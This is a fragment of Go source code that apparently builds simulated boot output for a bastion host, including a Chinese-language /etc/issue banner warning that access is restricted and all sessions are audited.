		"测试环境\t35\t王磊",
		"[堡垒机] 会话录像目录 /data/replay 可用空间：\t87%")
}

// bastionIssue is the bastion's /etc/issue: a Chinese warning banner with tabs, printed by agetty
// before the login prompt.
func bastionIssue(w *bootWriter) {
	w.ll("", "****************************************************************",
		"*  欢迎登录 阿里云 ECS 堡垒机 (bastion)",
		"*  本系统仅限授权人员使用，所有操作将被记录并审计。",
		"*  未经授权访问将依法追究责任。",
		"*  运维值班：\t分机 8021\t钉钉群「运维保障」",
		"****************************************************************")
}
